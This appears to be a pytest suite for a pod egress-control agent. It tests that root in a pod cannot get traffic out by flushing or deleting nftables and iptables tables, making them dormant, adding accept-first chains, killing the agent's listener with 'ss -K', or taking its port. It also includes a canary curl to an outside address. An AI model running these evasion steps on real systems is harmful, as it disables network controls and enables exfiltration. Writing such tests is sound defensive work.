# SPDX-License-Identifier: Apache-2.0
"""The rules in the pod are undone by who is root there. Nothing leaves meanwhile, and they come back."""
import socket

import pytest
from attack import OUT4, OUT6, Attack, inside, make_careless, nft, nft_json, tables as all_tables
from each_backend import backend, world as enrolled_world  # noqa: F401
from attackers import attacker, newcomer  # noqa: F401
from procs import wait_for

ROUNDS = 10
FAMILIES = ("iptables", "ip6tables")


@pytest.fixture(scope="module")
def world(enrolled_world):
    make_careless(enrolled_world)
    return enrolled_world


# ---- what root does ----

def tables(pod):
    """All of the pod's but the one that counts attempts: (family, name)."""
    return [t for t in all_tables(pod) if t[1] not in ("witness", "mine")]


def legacy(pod, *args):
    """On all tables of iptables-legacy that there are, both families."""
    for program in FAMILIES:
        for table in ("filter", "nat", "mangle", "raw"):
            inside(pod, f"{program}-legacy", "-t", table, *args)


def uses_legacy(pod):
    return "-A" in inside(pod, "sh", "-c", "iptables-legacy-save; ip6tables-legacy-save").stdout


def each_table(pod, command):
    for family, name in tables(pod):
        inside(pod, "nft", *command.format(table=f"{family} {name}").split())


def flush_tables(pod):
    each_table(pod, "flush table {table}")
    if uses_legacy(pod):
        legacy(pod, "-F")


def delete_tables(pod):
    each_table(pod, "delete table {table}")
    if uses_legacy(pod):
        legacy(pod, "-F")
        legacy(pod, "-X")


def is_redirect(rule):
    return any("redirect" in e or e.get("xt", {}).get("name") == "REDIRECT" for e in rule.get("expr", []))


def delete_redirects(pod):
    """And nothing else."""
    for family, name in tables(pod):
        rules = [r["rule"] for r in nft_json(pod, "-a", "list", "table", family, name) if "rule" in r]
        for rule in filter(is_redirect, rules):
            inside(pod, "nft", "delete", "rule", family, name, rule["chain"], "handle", str(rule["handle"]))
    for program in FAMILIES if uses_legacy(pod) else ():
        inside(pod, f"{program}-legacy", "-t", "nat", "-F")


def make_dormant(pod):
    for family, name in tables(pod):
        inside(pod, "nft", f"add table {family} {name} {{ flags dormant; }}")


def accept_before(pod):
    """Chains of one's own that come first, and that conntrack is kept from looking."""
    nft(pod, """table inet mine {
        chain raw { type filter hook output priority -400; policy accept; notrack; accept; }
        chain nat { type nat hook output priority -150; policy accept; accept; }
        chain out { type filter hook output priority -150; policy accept; accept; }
        chain post { type filter hook postrouting priority -150; policy accept; accept; }
    }""")


SPOIL = [flush_tables, delete_tables, delete_redirects, make_dormant, accept_before]


# ---- what becomes of it ----

def is_served(world, pod):
    got = world.curl(pod, "http://www.example.com/", timeout=3)
    return got.status == 200 and got.seen_from in ("203.0.113.10", "2001:db8:113::10")


@pytest.mark.parametrize("spoil", SPOIL, ids=[f.__name__ for f in SPOIL])
def test_nothing_leaves(world, attacker, spoil):
    with Attack(world, attacker) as attack:
        for _ in range(ROUNDS):
            spoil(attacker)
            attack.all_of(OUT4, OUT6)
        attack.run("curl", "-sg", "--max-time", "1", f"http://{OUT4}/{attack.canary.decode()}")
        assert attack.made() >= 6 * ROUNDS, attack.results
        assert attack.arrived() == []
        attack.wait_refused()
    inside(attacker, "nft", "delete", "table", "inet", "mine")
    wait_for(lambda: is_served(world, attacker), 30, "the pod is captured again")


def test_they_are_put_back_and_that_is_counted(world, attacker, backend):
    if backend == "ebpf":
        assert tables(attacker) == [], "nothing is in the pod that could be removed"
        return
    before, rules = world.metrics("node").value("sluice_redirect_repairs_total"), tables(attacker)
    with Attack(world, attacker) as attack:
        delete_tables(attacker)
        wait_for(lambda: world.metrics("node").value("sluice_redirect_repairs_total") > before,
                 what="a repair is counted")
        wait_for(lambda: tables(attacker) == rules, what="all are back")
        assert attack.arrived() == []
    assert is_served(world, attacker)


def has_socket_destroy(pod):
    return inside(pod, "ss", "-K", "dst", "203.0.113.254").returncode == 0


def test_the_listener_is_destroyed(world, attacker, backend):
    """And whatever else the pod has of sockets, again and again."""
    assert has_socket_destroy(attacker)
    with Attack(world, attacker) as attack:
        for _ in range(ROUNDS):
            for family in ("-4", "-6"):
                inside(attacker, "ss", "-K", "-l", "-t", family, "sport", "=", ":15001")
                inside(attacker, "ss", "-K", "-a", "-t", family)
            attack.all_of(OUT4, OUT6)
        assert attack.made() >= 6 * ROUNDS
        assert attack.arrived() == []
    wait_for(lambda: is_served(world, attacker), 30, "the listener is opened again")
    if backend != "ebpf":
        assert world.metrics("node").value("sluice_redirect_repairs_total") > 0


def take_port(pod):
    """Destroys the agent's listener until its port can be had."""
    def taken():
        inside(pod, "ss", "-K", "-l", "-t", "sport", "=", ":15001")
        sock = pod.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            sock.bind(("127.0.0.1", 15001))
            sock.listen()
            return sock
        except OSError:
            sock.close()
            return None
    return wait_for(taken, what="the port is free for a moment", interval=0)


def test_the_listeners_port_is_taken(world, attacker, backend):
    """By the pod itself: it then speaks to itself, or nothing of it is in the way."""
    with Attack(world, attacker) as attack, take_port(attacker):
        attack.all_of(OUT4, OUT6)
        if backend == "ebpf":
            assert is_served(world, attacker)
        assert attack.made() > 0
        assert attack.arrived() == []
    wait_for(lambda: is_served(world, attacker), 30, "the listener is opened again")
